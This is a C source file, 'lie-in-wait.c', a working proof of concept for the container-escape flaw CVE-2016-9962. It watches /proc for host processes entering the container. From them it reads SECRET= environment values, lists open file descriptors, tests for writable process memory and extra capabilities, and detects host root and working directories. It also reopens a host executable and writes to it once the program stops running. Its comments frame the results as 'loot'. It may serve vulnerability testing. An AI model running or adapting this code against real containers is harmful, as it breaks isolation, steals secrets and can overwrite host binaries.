/* lie-in-wait.c - wait for whoever joins us, and take what it brings along. */
/* SPDX-License-Identifier: MIT */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/*
 * Usage: lie-in-wait. Until it is killed, it looks at each process that it sees
 * for the first time, again and again for as long as that is not a program of
 * our root. What it got is a line each. (CVE-2016-9962)
 */
enum { MOST_SEEN = 65536 };

static unsigned int told[MOST_SEEN]; /* by the number of the process */

/* What we have got this time, and tell if it was a stranger's to the end. */
static char found[6][320];

static void keep(size_t kind, const char *what, const char *detail)
{
	snprintf(found[kind], sizeof(found[kind]), "%s %.280s", what, detail);
}

/* Is its program no file of our root, or may we not even know it? */
static int is_stranger(int pid)
{
	char path[64], name[256];
	struct stat its, ours;
	ssize_t length;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	length = readlink(path, name, sizeof(name) - 1);
	if (length < 0)
		return errno == EACCES || errno == EPERM;
	name[length] = '\0';
	return stat(path, &its) == 0 &&
	       (stat(name, &ours) < 0 || its.st_ino != ours.st_ino ||
		       its.st_dev != ours.st_dev);
}

/* What is open can be opened again, and be written when nobody runs it. */
static int program = -1;
static int program_of;

static void keep_program(int pid)
{
	char path[64];

	if (program >= 0)
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	program = open(path, O_RDONLY | O_CLOEXEC);
	program_of = pid;
}

static void forget_program(void)
{
	if (program >= 0)
		close(program);
	program = -1;
}

static void try_program(void)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 && errno == ETXTBSY)
		return; /* it still runs */
	/* (What a program begins with: nothing is changed by that.) */
	if (fd >= 0 && pwrite(fd, "\177", 1, 0) == 1) {
		printf("%d: program can be written\n", program_of);
		fflush(stdout);
	}
	close(fd);
	forget_program();
}

static void read_environ(int pid)
{
	char path[64], text[4096], *secret;
	ssize_t length;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	length = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	close(fd);
	for (ssize_t i = 0; i < length; i++)
		if (!text[i])
			text[i] = ' ';
	text[length > 0 ? length : 0] = '\0';
	secret = strstr(text, "SECRET=");
	if (secret)
		keep(0, "environ", strtok(secret, " "));
}

/* Whatever it has open beside what it is to have; but sockets lead nowhere. */
static void open_descriptors(int pid)
{
	char path[320], name[256];
	struct dirent *entry;
	ssize_t length;
	DIR *directory;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	directory = opendir(path);
	while (directory && (entry = readdir(directory))) {
		if (!isdigit(*entry->d_name) || atoi(entry->d_name) < 3)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/fd/%.20s", pid,
			entry->d_name);
		length = readlink(path, name, sizeof(name) - 1);
		name[length > 0 ? length : 0] = '\0';
		if (length > 0 && strncmp(name, "socket:", 7))
			keep(1, "descriptor", name);
	}
	if (directory)
		closedir(directory);
}

static unsigned long long rights_of(const char *path)
{
	char line[256];
	FILE *status = fopen(path, "re");
	unsigned long long set = 0;

	while (status && fgets(line, sizeof(line), status))
		if (!strncmp(line, "CapPrm:", 7))
			set = strtoull(line + 7, NULL, 16);
	if (status)
		fclose(status);
	return set;
}

/* Who can write its memory can make it do what it may do, and we may not. */
static void write_memory(int pid)
{
	unsigned long long ours = rights_of("/proc/self/status");
	char path[64], set[32];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return;
	close(fd);
	keep(5, "memory", "open for writing");
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	snprintf(set, sizeof(set), "%llx", rights_of(path) & ~ours);
	if (rights_of(path) & ~ours)
		keep(2, "rights", set);
}

static void look_for_root(int pid)
{
	char path[64];
	struct stat its, ours;

	snprintf(path, sizeof(path), "/proc/%d/root/.", pid);
	if (stat(path, &its) == 0 && stat("/", &ours) == 0 &&
		(its.st_ino != ours.st_ino || its.st_dev != ours.st_dev))
		keep(3, "root", "of the host");
	snprintf(path, sizeof(path), "/proc/%d/cwd/.", pid);
	if (stat(path, &its) == 0 && stat("/", &ours) == 0 &&
		(its.st_ino != ours.st_ino || its.st_dev != ours.st_dev))
		keep(4, "cwd", "of the host");
}

static void look_at(int pid)
{
	int had;

	if (!is_stranger(pid))
		return;
	had = program >= 0;
	memset(found, 0, sizeof(found));
	keep_program(pid);
	read_environ(pid);
	open_descriptors(pid);
	write_memory(pid);
	look_for_root(pid);
	/* It may have become one of ours meanwhile, and that is no loot. */
	if (!is_stranger(pid)) {
		if (!had)
			forget_program();
		return;
	}
	if (!(told[pid] & 1))
		printf("%d: seen\n", pid);
	told[pid] |= 1;
	for (unsigned int i = 0; i < 6; i++)
		if (*found[i] && !(told[pid] & 2U << i)) {
			printf("%d: %s\n", pid, found[i]);
			told[pid] |= 2U << i;
		}
	fflush(stdout);
}

int main(void)
{
	struct dirent *entry;
	DIR *proc;
	int pid;

	puts("waiting");
	fflush(stdout);
	for (;;) {
		proc = opendir("/proc");
		while (proc && (entry = readdir(proc))) {
			pid = atoi(entry->d_name);
			if (pid > 1 && pid < MOST_SEEN && pid != getpid())
				look_at(pid);
		}
		if (proc)
			closedir(proc);
		if (program >= 0)
			try_program();
	}
}
